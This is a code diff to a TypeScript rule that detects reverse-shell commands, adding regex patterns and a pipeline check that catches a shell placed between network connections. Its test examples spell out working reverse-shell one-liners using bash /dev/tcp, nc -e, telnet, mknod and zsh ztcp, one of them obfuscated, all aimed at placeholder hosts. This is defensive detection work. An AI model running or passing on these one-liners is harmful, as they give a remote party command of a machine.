@@ -1,7 +1,10 @@
 import type { Document } from '../../document.ts'
 import { defineRule, type Hit } from '../../rule.ts'
 import { mayMatch } from '../../signals/candidates.ts'
+import { commands } from '../../signals/commands.ts'
 import { mentions } from '../../signals/mentions.ts'
+import { baseName, interprets } from '../../signals/programs.ts'
+import type { Command } from '../../signals/shell.ts'
 import { teachesSecurity } from '../../topic.ts'
 import { worded } from '../../wording.ts'
 
@@ -16,7 +19,7 @@ const SHAPES: readonly RegExp[] = [
   /(?:bash|sh|zsh)\s{1,4}-i\b[^\n]{0,60}(?:>&|&>|<>|0>&1)[^\n]{0,40}\/dev\/(?:tcp|udp)\//,
   /exec\s{1,4}\d{1,3}<>\s?\/dev\/tcp\/[^]{0,200}(?:<&|>&)\s?\d/,
   /\b(?:nc|ncat|netcat)\b[^\n|;]{0,100}\s-[a-z]{0,6}[ec]\s{0,3}(?:\/[\w/]{1,40}\/)?(?:ba|z|da|k)?sh\b|\b(?:nc|ncat|netcat)\b[^\n|;]{0,100}\s-e\s{1,3}(?:cmd|powershell)/,
-  /mkfifo\s{1,4}\S{1,100}[^]{0,200}\b(?:nc|ncat|netcat|openssl s_client|telnet)\b/,
+  /(?:mkfifo\s{1,4}\S{1,100}|mknod\s{1,4}\S{1,100}\s{1,4}p\b)[^]{0,200}\b(?:nc|ncat|netcat|openssl s_client|telnet)\b/,
   /(?:socat|websocat)\b[^\n]{0,200}(?:exec|sh-c|cmd):[^\n]{0,60}(?:sh|cmd|bash)/,
   /socket\.socket\([^]{0,400}(?:dup2\(|subprocess\.\w{2,12}\()[^]{0,200}(?:\/bin\/(?:ba)?sh|\[["']sh|cmd\.exe|["']-i["'])/,
   /net\.sockets\.tcpclient[^]{0,500}(?:invoke-expression|iex\b|getstream)/,
@@ -28,7 +31,9 @@ const SHAPES: readonly RegExp[] = [
   /"\/inet\/(?:tcp|udp)\/0\/[^"\n]{3,80}"[^]{0,200}\|&/,
   /\bsockets\.tcpclient\b[^]{0,500}(?:\biex\b|invoke-expression|getstream)/,
   /\b(?:nc|ncat|netcat)\b[^\n|;]{0,60}\s-[a-z]{0,4}l[a-z]{0,4}\b[^\n|;]{0,60}\s-[ec]\s/,
-  /\bsocket\.tcp\(\)[^]{0,300}\bio\.popen\(/,
+  /\bsocket["')]{0,2}\.tcp\(\)[^]{0,300}\bio\.popen\(/,
+  /\bio::socket::\w{2,8}\b[^]{0,200}\bfdopen\([^]{0,120}\b(?:system|exec)\b/,
+  /\bztcp\b[^]{0,120}\b(?:ba|z)?sh\b[^\n]{0,20}[<>]&\s?\$reply\b/,
 ].map(worded)
 
 /** A machine in the network of a lab, which nobody outside of it has. */
@@ -51,21 +56,27 @@ export default defineRule({
     'The command connects a shell to a remote machine, whose owner can then type commands on this one.',
   remediation: 'Remove it. No skill needs to hand out a shell.',
   harmlessIf: 'the file teaches defence and shows the command as an example',
-  needs: [['shellDanger', 'fetcher', 'network', 'shellSocket']],
+  needs: [['shellDanger', 'fetcher', 'network', 'shellSocket', 'interpreter']],
   examples: {
     fires: [
       'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n',
       'nc -e /bin/sh attacker.example 9001\n',
+      "```bash\nexec 7<>/dev/t''cp/203.0.113.8/9001; cat <&7 | while read c; do $c >&7; done\n```\n",
+      '```bash\ntelnet 203.0.113.8 9001 | /bin/bash | telnet 203.0.113.8 9002\n```\n',
+      '```bash\nmknod /tmp/p p; sh -i < /tmp/p 2>&1 | nc 203.0.113.8 9001 > /tmp/p\n```\n',
+      "```bash\nzsh -c 'zmodload zsh/net/tcp; ztcp 203.0.113.8 9001; sh <&$REPLY >&$REPLY'\n```\n",
       'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 80 > /tmp/f\n',
     ],
     quiet: [
       'Test the port with `timeout 1 bash -c "</dev/null"`.\n',
       '```bash\nnc -zv db.example.com 5432\n```\n',
+      '```bash\ntelnet mail.example.com 25 | tee session.txt | grep 220\n```\n',
       'A named pipe is made with `mkfifo queue`.\n',
       '# CTF walkthrough\n\nOn the container: `bash -i >& /dev/tcp/10.10.14.8/9001 0>&1`\n',
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    yield* throughPipes(document)
     const shapes = SHAPES.filter((shape) => mayMatch(document, shape))
     if (shapes.length === 0) return
     const { text } = document.reading
@@ -75,6 +86,7 @@ export default defineRule({
         (concept !== 'shellDanger' &&
           concept !== 'fetcher' &&
           concept !== 'network' &&
+          concept !== 'interpreter' &&
           concept !== 'shellSocket') ||
         start < behind
       )
@@ -94,3 +106,34 @@ export default defineRule({
     }
   },
 })
+
+/** Programs whose input and output are a connection. */
+const CONNECTS = /^(?:nc|ncat|netcat|telnet|socat)$/
+
+/** The device that is a connection, as a shell reads it. */
+const SOCKET = /^\/dev\/(?:tcp|udp)\//
+
+/** A shell between two ends of a connection, and a connection whose name is written so that nobody finds it. */
+function* throughPipes(document: Document): Generator<Hit> {
+  for (const { everyPipeline, start, end } of document.observe(commands))
+    if (
+      everyPipeline.some(({ commands: list }) => isBetween(list)) ||
+      (everyPipeline.some(({ commands: list }) => list.some(opensSocket)) &&
+        !/\/dev\/(?:tcp|udp)\//.test(document.reading.text.slice(start, end)))
+    )
+      yield { start, end, firm: true }
+}
+
+const isBetween = (list: readonly Command[]): boolean =>
+  list.some(
+    (command, index) =>
+      index > 0 &&
+      interprets(command) !== null &&
+      connects(list[index - 1]!) &&
+      list.slice(index + 1).some(connects),
+  )
+
+const connects = ({ words }: Command): boolean => CONNECTS.test(baseName(words[0] ?? ''))
+
+const opensSocket = ({ redirects }: Command): boolean =>
+  redirects.some(({ target }) => SOCKET.test(target))
